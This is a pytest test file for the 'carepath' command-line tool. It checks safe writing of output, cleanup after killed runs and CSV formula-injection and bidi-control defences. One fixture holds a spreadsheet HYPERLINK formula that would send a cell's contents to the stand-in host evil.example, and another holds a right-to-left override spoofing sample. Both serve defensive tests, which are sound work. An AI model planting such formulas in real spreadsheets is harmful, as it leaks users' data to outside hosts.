"""Every command that writes: a user's files are never lost, nothing is half-written, a killed
run's temporary folders are cleaned up, the umask is honoured, a full disk is one line.

Each case ran wrongly before carepath.writing (files deleted with exit 0, a workbook emptied,
a file moved to a hidden ``.NAME.old``, ``-o .`` crashing, temp folders left forever).
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from carepath.errors import OutputExistsError
from carepath.writing import MANIFEST, output_dir, output_file
from tests.conftest import FIXTURES, cli, need, run_cli

# the installed command, or this Python's carepath where the environment is not switched on
CAREPATH = ([shutil.which("carepath")] if shutil.which("carepath")
            else [sys.executable, "-m", "carepath"])


def _user_files(folder: Path) -> dict[str, str]:
    """A folder of someone's own work: a document and a note in a subfolder."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sub").mkdir(exist_ok=True)
    (folder / "thesis.docx").write_text("three years of work", encoding="utf-8")
    (folder / "sub" / "notes.txt").write_text("my notes", encoding="utf-8")
    return {"thesis.docx": "three years of work", "sub/notes.txt": "my notes"}


def _still_there(folder: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        assert (folder / rel).read_text(encoding="utf-8") == text, rel


def _no_temp_siblings(folder: Path) -> None:
    assert [p.name for p in folder.parent.iterdir() if p.name.startswith(f".{folder.name}.")] == []


# each writing command, as a user types it, writing into the folder OUT
WRITERS = {
    "build": ["build", "-o", "{out}", "--data", str(FIXTURES / "tiny"), "--no-shacl"],
    "template-folder": ["template", "{out}"],
    "neo4j-csv": ["export", "neo4j-csv", "{out}", "--data", str(FIXTURES / "tiny")],
    "html-site": ["export", "html", "--view", "all", "-o", "{out}", "--data",
                  str(FIXTURES / "tiny")],
    "hsds": ["export", "hsds", "{out}", "--data", str(FIXTURES / "tiny")],
    "yaml": ["export", "yaml", "{out}", "--data", str(FIXTURES / "tiny")],
    "csv": ["export", "csv", "{out}", "--data", str(FIXTURES / "tiny")],
    "synth": ["synth", "--areas", "1", "--services-per-area", "30", "-o", "{out}"],
}


def _args(name: str, out: Path) -> list[str]:
    return [a.replace("{out}", str(out)) for a in WRITERS[name]]


@pytest.mark.parametrize("command", list(WRITERS), ids=list(WRITERS))
def test_a_folder_of_user_files_is_refused_and_kept(command, tmp_path):
    out = tmp_path / "out"
    files = _user_files(out)
    result = cli(*_args(command, out))
    assert result.returncode == 2, result.stderr
    assert "not written by carepath" in result.stderr and "thesis.docx" in result.stderr
    assert "Traceback" not in result.stderr
    _still_there(out, files)
    assert sorted(p.name for p in out.iterdir()) == ["sub", "thesis.docx"]
    _no_temp_siblings(out)


@pytest.mark.parametrize("command", ["build", "template-folder", "neo4j-csv"])
def test_force_writes_beside_user_files_and_replaces_only_its_own(command, tmp_path):
    out = tmp_path / "out"
    files = _user_files(out)
    first = cli(*_args(command, out), "--force")
    assert first.returncode == 0, first.stderr
    _still_there(out, files)
    assert (out / MANIFEST).is_file()
    # written by carepath now: a second run needs no --force, and still keeps the user's files
    again = cli(*_args(command, out))
    assert again.returncode == 0, again.stderr
    _still_there(out, files)
    _no_temp_siblings(out)


def test_build_twice_into_its_own_folder(tmp_path):
    out = tmp_path / "b"
    for _ in range(2):
        result = run_cli(*_args("build", out))
        assert result.returncode == 0, result.stderr
    assert {p.name for p in out.iterdir()} >= {MANIFEST, "carepath.ttl", "graph.lbdb"}
    _no_temp_siblings(out)


def test_build_onto_an_existing_file_leaves_it_alone(tmp_path):
    report = tmp_path / "report.txt"
    report.write_text("my report", encoding="utf-8")
    for _ in range(2):  # the second run used to fail with 'Not a directory'
        result = run_cli("build", "-o", str(report), "--no-shacl")
        assert result.returncode == 2
        assert "is a file, not a folder" in result.stderr
    assert report.read_text(encoding="utf-8") == "my report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.txt"]  # no .report.txt.old


def test_build_into_dot(tmp_path):
    empty = tmp_path / "here"
    empty.mkdir()
    result = cli("build", "-o", ".", "--no-shacl", cwd=empty)
    assert result.returncode == 0, result.stderr
    assert (empty / "carepath.ttl").is_file() and (empty / MANIFEST).is_file()
    # a folder of other things, as '.', is refused with a message
    busy = tmp_path / "busy"
    files = _user_files(busy)
    result = cli("build", "-o", ".", "--no-shacl", cwd=busy)
    assert result.returncode == 2 and "not written by carepath" in result.stderr
    _still_there(busy, files)


def test_a_file_carepath_wrote_but_the_user_edited_is_never_replaced(tmp_path):
    out = tmp_path / "tpl"
    assert cli("template", str(out)).returncode == 0
    services = out / "services.csv"
    services.write_text(services.read_text(encoding="utf-8") + "x-a,A\n", encoding="utf-8")
    result = cli("template", str(out), "--force")
    assert result.returncode == 2 and "services.csv" in result.stderr
    assert services.read_text(encoding="utf-8").endswith("x-a,A\n")


def test_template_keeps_a_filled_in_workbook(tmp_path):
    book = tmp_path / "my-area.xlsx"
    assert cli("template", str(book)).returncode == 0
    wb = load_workbook(book)
    wb["services"].append(["x-hv", "Health visiting"])
    wb["services"].append(["x-pmh", "Perinatal mental health"])
    wb.save(book)
    result = cli("template", str(book))
    assert result.returncode == 2 and "already exists" in result.stderr
    assert load_workbook(book)["services"].max_row == 3  # header and the two services
    assert cli("template", str(book), "--force").returncode == 0
    assert load_workbook(book)["services"].max_row == 1


def test_template_on_a_data_folder_keeps_its_csvs(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(FIXTURES / "tiny-csv", data)
    (data / "notes.txt").write_text("mine", encoding="utf-8")
    before = {p.name: p.read_bytes() for p in data.iterdir()}
    result = cli("template", str(data))
    assert result.returncode == 2
    assert {p.name: p.read_bytes() for p in data.iterdir()} == before
    # --force does not help: those CSVs are the user's, not carepath's
    result = cli("template", str(data), "--force")
    assert result.returncode == 2 and "never replaces a file it did not write" in result.stderr
    assert {p.name: p.read_bytes() for p in data.iterdir()} == before


def test_import_into_a_folder_of_user_files(tmp_path):
    out = tmp_path / "imported"
    files = _user_files(out)
    hsds = tmp_path / "pkg"
    assert cli("export", "hsds", str(hsds), "--data", str(FIXTURES / "tiny")).returncode == 0
    result = cli("import", "hsds", str(hsds), "-o", str(out))
    assert result.returncode == 2 and "not written by carepath" in result.stderr
    _still_there(out, files)


def test_umask_is_honoured(tmp_path):
    out = tmp_path / "b"
    code = ("import os, sys; os.umask(0o027); from carepath.cli import main; "
            "sys.argv = ['carepath', 'template', sys.argv[1]]; main()")
    result = subprocess.run([sys.executable, "-c", code, str(out)], capture_output=True,
                            text=True)
    assert result.returncode == 0, result.stderr
    assert out.stat().st_mode & 0o777 == 0o750  # tempfile.mkdtemp made it 0700
    assert (out / "services.csv").stat().st_mode & 0o777 == 0o640
    book = tmp_path / "t.xlsx"
    result = subprocess.run([sys.executable, "-c", code, str(book)], capture_output=True,
                            text=True)
    assert result.returncode == 0, result.stderr
    assert book.stat().st_mode & 0o777 == 0o640  # mkstemp made it 0600


def test_a_killed_run_leaves_temp_folders_the_next_run_removes(tmp_path):
    # a build fills its temporary folder for seconds (the stores are made in it); synth now
    # writes texts it has already made, in milliseconds: too short to be caught and killed
    out = tmp_path / "s"
    proc = subprocess.Popen([*CAREPATH, "build", "-o", str(out)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        if any(p.name.startswith(".s.carepath-tmp.") for p in tmp_path.iterdir()):
            break
        time.sleep(0.01)
    assert proc.poll() is None, "the build finished before it could be killed"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    left = [p for p in tmp_path.iterdir() if p.name.startswith(".s.")]
    assert left, "kill -9 left nothing to clean (the test did not interrupt the write)"
    assert not out.exists()
    result = run_cli("synth", "--areas", "1", "--services-per-area", "30", "-o", str(out))
    assert result.returncode == 0, result.stderr
    _no_temp_siblings(out)


def test_a_live_runs_temp_folder_is_not_touched(tmp_path):
    live = tmp_path / f".out.carepath-tmp.{os.getpid()}.0000"
    live.mkdir()
    with output_dir(tmp_path / "out") as tmp:
        (tmp / "a").write_text("x", encoding="utf-8")
    assert live.is_dir()


def test_a_failed_write_changes_nothing(tmp_path):
    out = tmp_path / "out"
    with output_dir(out) as tmp:
        (tmp / "a.txt").write_text("first", encoding="utf-8")
    with pytest.raises(RuntimeError), output_dir(out) as tmp:
        (tmp / "a.txt").write_text("second", encoding="utf-8")
        raise RuntimeError("the build failed")
    assert (out / "a.txt").read_text(encoding="utf-8") == "first"
    _no_temp_siblings(out)


def test_single_file_needs_force(tmp_path):
    f = tmp_path / "x.txt"
    f.write_text("mine", encoding="utf-8")
    with pytest.raises(OutputExistsError), output_file(f, force=False) as tmp:
        tmp.write_text("carepath's", encoding="utf-8")
    assert f.read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize("args", [
    ("export", "graphml", "{f}"), ("export", "fhir", "{f}"),
    ("export", "html", "--view", "timeline", "-o", "{f}"),
    ("export", "image", "--view", "timeline", "-o", "{f}.svg"),
    ("export", "hsds", "{d}", "--report", "{f}"),
], ids=["graphml", "fhir", "html", "image", "hsds-report"])
def test_an_existing_file_is_never_replaced_without_force(args, tmp_path):
    mine = tmp_path / "thesis"
    for path in (mine, mine.with_name("thesis.svg")):
        path.write_text("my work", encoding="utf-8")
    argv = [a.format(f=mine, d=tmp_path / "pkg") for a in args]
    refused = cli(*argv)
    assert refused.returncode == 2 and "already exists" in refused.stderr, refused.stderr
    assert mine.read_text(encoding="utf-8") == "my work"
    assert not (tmp_path / "pkg").exists()  # refused before any work
    forced = cli(*argv, "--force")
    assert forced.returncode == 0, forced.stderr
    assert "my work" not in (mine if args[-1] != "{f}.svg" else mine.with_name("thesis.svg")
                             ).read_text(encoding="utf-8")


# Runs ``carepath ARGS`` with a real, tiny file system (a 1 MiB tmpfs) mounted at $0, in a
# mount namespace of its own (unshare; as an unprivileged user, with a user namespace too), and
# lists what is left on it before the namespace, and the mount, go away.
_SMALL_FS = """
mount -t tmpfs -o size=1m tmpfs "$0" || exit 97
"$@" 2> "$0.stderr"
rc=$?
ls -A "$0" > "$0.left"
exit $rc
"""


def test_full_disk_is_one_line(tmp_path):
    mount = tmp_path / "small"
    mount.mkdir()
    unshare = shutil.which("unshare")
    need(unshare is not None, "unshare (util-linux) is needed to mount a small tmpfs")
    user = [] if os.geteuid() == 0 else ["--user", "--map-root-user"]
    out = mount / "b"
    done = subprocess.run([unshare, *user, "--mount", "sh", "-c", _SMALL_FS, str(mount),
                           *CAREPATH, "build", "-o", str(out), "--no-shacl"],
                          capture_output=True, text=True, timeout=300)
    need(done.returncode != 97, f"cannot mount a small tmpfs here: {done.stderr.strip()}")
    stderr = (tmp_path / "small.stderr").read_text(encoding="utf-8")
    assert done.returncode == 2, stderr
    assert "Traceback" not in stderr
    assert f"no space left on {mount}" in stderr
    assert (tmp_path / "small.left").read_text(encoding="utf-8") == ""  # nothing half-written


# -- CSV formula injection ------------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Health visiting")'


@pytest.fixture
def evil_data(tmp_path) -> Path:
    """The tiny area with a service whose name is a spreadsheet formula."""
    data = tmp_path / "evil"
    shutil.copytree(FIXTURES / "tiny", data)
    area = data / "tiny.yaml"
    area.write_text(area.read_text(encoding="utf-8").replace(
        "name: Health visiting", f"name: '{EVIL}'"), encoding="utf-8")
    return data


def test_format_csv_output_neutralises_formulas(evil_data):
    import csv
    import io

    result = cli("refers", "--to", "tiny-pmh", "--format", "csv", "--data", str(evil_data))
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert "'" + EVIL in cells  # the data is all there, as text...
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)  # ...no formula


def test_hsds_services_csv_neutralises_formulas_and_reads_back(evil_data, tmp_path):
    import csv

    pkg = tmp_path / "pkg"
    assert cli("export", "hsds", str(pkg), "--data", str(evil_data)).returncode == 0
    with (pkg / "services.csv").open(encoding="utf-8", newline="") as fh:
        names = [row["name"] for row in csv.DictReader(fh)]
    assert "'" + EVIL in names
    assert not any(str(n).startswith(("=", "+", "-", "@")) for n in names)
    from carepath.standards.hsds import read_hsds

    assert EVIL in [e.name for e in read_hsds(pkg).entries]  # the quote is taken off again


def test_neo4j_csv_files_stay_exact(evil_data, tmp_path):
    # machine-facing: neo4j-admin must read the same text (tests/servers run the real one)
    out = tmp_path / "neo"
    done = cli("export", "neo4j-csv", str(out), "--data", str(evil_data))
    assert done.returncode == 0
    text = (out / "nodes-Service.csv").read_text(encoding="utf-8")
    assert EVIL.replace('"', '""') in text and "'=HYPERLINK" not in text
    # ...and said (issue 24): one note naming the file and the cell
    assert done.stderr.count("would run as a spreadsheet formula") == 1
    assert "first: nodes-Service.csv: '=HYPERLINK(" in done.stderr


# -- bidirectional controls ------------------------------------------------------------------
RLO = "\u202e"


@pytest.fixture
def bidi_data(tmp_path) -> Path:
    """The tiny area with a service name holding a RIGHT-TO-LEFT OVERRIDE."""
    data = tmp_path / "bidi"
    shutil.copytree(FIXTURES / "tiny", data)
    area = data / "tiny.yaml"
    area.write_text(area.read_text(encoding="utf-8").replace(
        "name: Health visiting", 'name: "Health \\u202Egnitisiv"'), encoding="utf-8")
    return data


def test_bidi_controls_are_kept_in_data_but_inert_in_terminal_output(bidi_data):
    import carepath

    assert carepath.load(bidi_data).services["tiny-hv"].name == f"Health {RLO}gnitisiv"
    table = cli("refers", "--to", "tiny-pmh", "--columns", "source_name,target",
                "--data", str(bidi_data))
    assert table.returncode == 0, table.stderr
    assert RLO not in table.stdout and "Health [U+202E]gnitisiv" in table.stdout
    as_json = cli("refers", "--to", "tiny-pmh", "--format", "json", "--data", str(bidi_data))
    assert f"Health {RLO}gnitisiv" in as_json.stdout  # data formats keep the data


def test_bidi_controls_are_inert_in_every_html_page(bidi_data, tmp_path):
    site = tmp_path / "site"
    result = cli("export", "html", "--view", "all", "-o", str(site), "--data", str(bidi_data))
    assert result.returncode == 0, result.stderr
    pages = {p.name: p.read_text(encoding="utf-8") for p in site.iterdir()
             if p.suffix in (".html", ".svg")}
    assert not [name for name, text in pages.items() if RLO in text or "\\u202e" in text]
    assert "[U+202E]gnitisiv" in pages["table.html"]
